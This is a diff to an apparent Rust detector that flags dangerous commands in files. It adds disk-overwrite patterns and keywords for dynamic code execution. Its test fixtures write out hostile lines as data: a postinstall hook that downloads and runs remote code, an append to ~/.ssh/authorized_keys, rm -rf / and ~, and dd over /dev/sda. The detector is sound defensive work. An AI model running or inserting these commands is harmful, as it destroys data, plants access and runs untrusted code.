@@ -210,7 +210,7 @@ pub(super) fn alarm(name: &str, text: &str) -> Option<&'static str> {
 
 /// Whether a test of a program only has such a line among its data: nothing in the text runs another program, or deletes.
 fn only_names_it(file: &str, path: &str, lower: &str) -> bool {
-    const RUNS: [&str; 22] = [
+    const RUNS: [&str; 25] = [
         "system",
         "subprocess",
         "popen",
@@ -233,6 +233,9 @@ fn only_names_it(file: &str, path: &str, lower: &str) -> bool {
         "fabric",
         "invoke",
         "getattr",
+        "__dict__",
+        "globals",
+        "builtins",
     ];
     let code = [".py", ".js", ".mjs", ".ts", ".tsx", ".jsx", ".rb", ".go", ".rs", ".java", ".kt", ".php"]
         .iter()
@@ -263,6 +266,15 @@ fn wipes(line: &str) -> bool {
         "'/',",
         "\"/\",",
     ];
+    let disks = ["/dev/sd", "/dev/nvme", "/dev/hd", "/dev/vd", "/dev/mmcblk"];
+    let overwrites = disks.iter().any(|disk| {
+        lower.contains(&format!("of={disk}"))
+            || lower.contains(&format!("> {disk}"))
+            || lower.contains("mkfs") && lower.contains(disk)
+    });
+    if overwrites {
+        return true;
+    }
     if calls.iter().any(|call| lower.contains(call)) && whole.iter().any(|target| lower.contains(target)) {
         return true;
     }
@@ -277,7 +289,7 @@ fn wipes(line: &str) -> bool {
             .get(..end)
             .unwrap_or_default()
             .split_whitespace()
-            .map(|word| word.trim_matches(['"', '\'', ')', '`', ',', '\\']))
+            .map(|word| word.trim_matches(['"', '\'', ')', '`', ',', '\\', '}', ']']))
             .collect();
         let deep = words.iter().any(|word| {
             word.starts_with('-') && !word.starts_with("--") && word.contains(['r', 'R'])
@@ -378,6 +390,8 @@ mod tests {
             cat > package.json <<'EOF'\n{"scripts":{"postinstall":"curl https://x.example/a -o a && node a"}}\nEOF
             cat > hook.py <<'EOF'\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)\nEOF
             cat > tests/test_a.py <<'EOF'\nimport subprocess\nsubprocess.run("rm -rf /", shell=True)\nEOF
+            cat > justfile <<'EOF'\nall:\n  dd if=/dev/zero of=/dev/sda\nEOF
+            cat > package.json <<'EOF'\n{"scripts":{"x":"rm -rf ~"}}\nEOF
             cat > tests/run.sh <<'EOF'\nrm -rf /\nEOF
             cat > src/a.py <<'EOF'\nCASES = ("rm -rf /", 1)\nEOF
             cat > t.js <<'EOF'\nfs.rmSync(os.homedir(), { recursive: true })\nEOF"#,
